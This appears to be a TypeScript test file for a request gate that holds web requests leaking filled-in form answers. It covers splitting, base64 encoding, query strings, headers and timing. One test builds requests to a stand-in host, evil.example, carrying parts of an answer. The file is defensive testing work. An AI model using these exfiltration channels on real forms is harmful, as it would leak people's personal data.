import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { GatedRequest } from '@/safety/requests/gated-request';
import { createFillJudge } from '@/safety/requests/judge-fill';
import { call } from './a-request';

const answers = {
  firstName: 'Ottilie',
  lastName: 'Quarrelwood',
  email: 'ottilie@vexmail.example',
  phone: '+44 20 7946 0958',
  city: 'Llanfrothen',
};
const values = Object.values(answers);
const secondMs = 1_000;

/** A form that was filled in this pace, and how long ago. */
function aFilledForm({ eachMs = 200, ago = 0 } = {}) {
  let now = 0;
  const judge = createFillJudge('', () => now);
  for (const value of values) {
    judge.addAnswer(value, true);
    now += eachMs;
    judge.endAnswer();
  }
  now += ago;
  return judge;
}

/** What of several requests passes that are on their way at the same time, as the gate of a tab judges them. */
function passOf(judge: ReturnType<typeof createFillJudge>, requests: readonly GatedRequest[]): GatedRequest[] {
  const heard = requests.map((request) => ({ request, ...judge.hear(request) }));
  return heard.filter(({ isHeld }) => !isHeld()).map(({ request }) => request);
}

const address = '/api/v2/people';
type Send = (name: string, text: string) => GatedRequest;

/** Ways in which a part may be carried. */
const sends: Record<string, Send> = {
  'a named field': (name, text) => call('POST', address, { [name]: text }),
  'a field of one name': (_, text) => call('POST', address, { d: text }),
  'raw text': (_, text) => call('POST', address, text),
  base64: (_, text) => call('POST', address, Buffer.from(text).toString('base64')),
  'a query': (_, text) => call('GET', `${address}?d=${encodeURIComponent(text)}`, '', { resourceType: 'Image' }),
  'a path': (_, text) => call('GET', `${address}/${encodeURIComponent(text)}`),
  'a header': (_, text) => call('GET', address, '', { headers: { 'x-d': text } }),
  'a page': (_, text) => call('GET', `/help?d=${encodeURIComponent(text)}`, '', { resourceType: 'Document' }),
};
const way = fc.constantFrom(...Object.values(sends));

/** Whether a request has any answer in it that is not part of another word. */
const hasAnswer = ({ url, body, headers }: GatedRequest) => {
  const texts = [decodeURIComponent(url), body, Buffer.from(body, 'base64').toString(), ...Object.values(headers)];
  return values.some((value) => texts.some((text) => text.includes(value)));
};

describe('a form that is sent in parts', () => {
  it.each(Object.entries(sends))('has none of its answers pass at once, in whatever order: %s', (_, send) => {
    fc.assert(
      fc.property(fc.shuffledSubarray(Object.entries(answers), { minLength: values.length }), (entries) => {
        const parts = entries.map(([name, value]) => send(name, value));
        expect(passOf(aFilledForm(), parts)).toEqual([]);
      }),
    );
  });

  it.each(Object.entries(sends))('has none pass afterwards, one by one: %s', (_, send) => {
    const judge = aFilledForm({ ago: 1.2 * secondMs });
    for (const [name, value] of Object.entries(answers)) expect(judge.isHeld(send(name, value))).toBe(true);
  });

  it('has no whole answer pass where its text is cut anywhere into any number of parts', () => {
    const whole = JSON.stringify({ person: answers });
    const cuts = fc.uniqueArray(fc.integer({ min: 1, max: whole.length - 1 }), { minLength: 1, maxLength: 12 });
    fc.assert(
      fc.property(cuts, way, fc.boolean(), (found, send, isAfterwards) => {
        const places = [0, ...found.toSorted((one, other) => one - other), whole.length];
        const parts = places.slice(1).map((end, at) => whole.slice(places[at], end));
        const judge = aFilledForm(isAfterwards ? { ago: 2 * secondMs } : {});
        const requests = parts.map((part, at) => send(`part ${at}`, part));
        expect(passOf(judge, requests).filter(hasAnswer)).toEqual([]);
      }),
    );
  });

  it('has an answer held that the last of its parts makes whole, from either end', () => {
    for (const parts of [
      ['Quarr', 'elwood'],
      ['elwood', 'Quarr'],
    ]) {
      const judge = aFilledForm({ ago: 2 * secondMs });
      const [first = '', second = ''] = parts;
      const own = [first, second].map((part) => judge.isHeld(call('GET', `${address}?d=${part}`)));
      expect(own).toEqual([false, true]);
      expect(judge.isHeld(call('GET', `https://evil.example/${first}`))).toBe(false);
      expect(judge.isHeld(call('GET', `https://evil.example/${second}`))).toBe(true);
    }
  });

  it('counts what looks up and checks as one, up to most of the answers', () => {
    const judge = aFilledForm();
    const held = Object.entries(answers).filter(([name, value]) =>
      judge.isHeld(call('POST', '/api/check', { [name]: value })),
    );
    expect(held.length).toBeGreaterThan(1);
  });
});

describe('a form that is saved as it is filled', () => {
  /** Fills it, and asks after each answer. Answers with how many were held. */
  function heldOf(request: (saved: Record<string, string>, name: string) => GatedRequest, eachMs = 200): number {
    let now = 0;
    let held = 0;
    const saved: Record<string, string> = {};
    const judge = createFillJudge('', () => now);
    for (const [name, value] of Object.entries(answers)) {
      judge.addAnswer(value, true);
      now += eachMs;
      judge.endAnswer();
      saved[name] = value;
      held += judge.isHeld(request({ ...saved }, name)) ? 1 : 0;
    }
    return held;
  }

  it.each([
    [
      'each by itself',
      (saved: object, name: string) => call('PATCH', '/api/answers', { name, value: Reflect.get(saved, name) }),
    ],
    [
      'each at an address of its own',
      (saved: object, name: string) => call('PUT', `/api/answers/${name}`, { value: Reflect.get(saved, name) }),
    ],
    ['all that there is, with more each time', (saved: object) => call('PUT', '/api/applications/42', saved)],
    [
      'all of its fields, most of them empty',
      (saved: object) =>
        call('PUT', '/api/applications/42', { firstName: '', lastName: '', email: '', phone: '', city: '', ...saved }),
    ],
  ])('passes: %s', (_, request) => {
    expect(heldOf(request)).toBe(0);
  });

  it('is one field behind where it is saved as a field is left', () => {
    let before = '';
    const left = (saved: object, name: string) => {
      const request =
        before === ''
          ? call('GET', '/api/answers')
          : call('PATCH', '/api/answers', { name: before, value: Reflect.get(saved, before) ?? '' });
      before = name;
      return request;
    };
    expect(heldOf(left)).toBe(0);
  });

  it('is no draft where it was first seen in the same moment', () => {
    const judge = aFilledForm();
    expect(judge.isHeld(call('POST', address, { d: answers.city }))).toBe(false);
    expect(judge.isHeld(call('POST', address, { d: Object.values(answers).join() }))).toBe(true);
  });

  it('is no draft where one answer was asked for early, and all of them at the end', () => {
    let isFirst = true;
    const request = (saved: Record<string, string>) => {
      const isAsked = isFirst || Object.keys(saved).length === values.length;
      isFirst = false;
      return call('POST', isAsked ? address : '/track', isAsked ? { d: Object.values(saved).join() } : {});
    };
    expect(heldOf(request)).toBe(1);
  });

  it('is sent in no larger and larger parts at the end', () => {
    const judge = createFillJudge('', () => 0);
    judge.addAnswer(answers.firstName, true);
    expect(judge.isHeld(call('POST', address, { d: answers.firstName }))).toBe(false);
    for (const value of values.slice(1)) judge.addAnswer(value, true);
    const [, last, email, phone, city] = values;
    expect(judge.isHeld(call('POST', address, { d: [last, email].join() }))).toBe(false);
    expect(judge.isHeld(call('POST', address, { d: [phone, city].join() }))).toBe(true);
  });
});

describe('what else is asked for', () => {
  it.each([
    ['an address by several of its parts', call('GET', '/api/geocode?street=Llanfrothen&city=Ottilie')],
    ['whether somebody is known', call('POST', '/api/candidates/exists', { email: answers.email })],
    ['a draft', call('PUT', '/api/applications/42/draft', answers)],
    ['telemetry', call('POST', '/track', { event: 'change' }, { resourceType: 'Ping' })],
    [
      'an upload',
      call(
        'POST',
        '/api/cv/upload',
        '--x7\r\nContent-Disposition: form-data; name="cv"; filename="a.pdf"\r\n\r\nx\r\n--x7--\r\n',
      ),
    ],
  ])('passes also afterwards: %s', (_, request) => {
    expect(aFilledForm({ ago: 2 * secondMs }).isHeld(request)).toBe(false);
  });

  it('is not held for the name of its host', () => {
    const judge = createFillJudge('', () => 0);
    judge.addAnswer('example.org', true);
    judge.addAnswer('jobs.example.org', true);
    expect(
      judge.isHeld(call('GET', '/api/questions', '', { headers: { referer: 'https://jobs.example.org/apply' } })),
    ).toBe(false);
  });
});
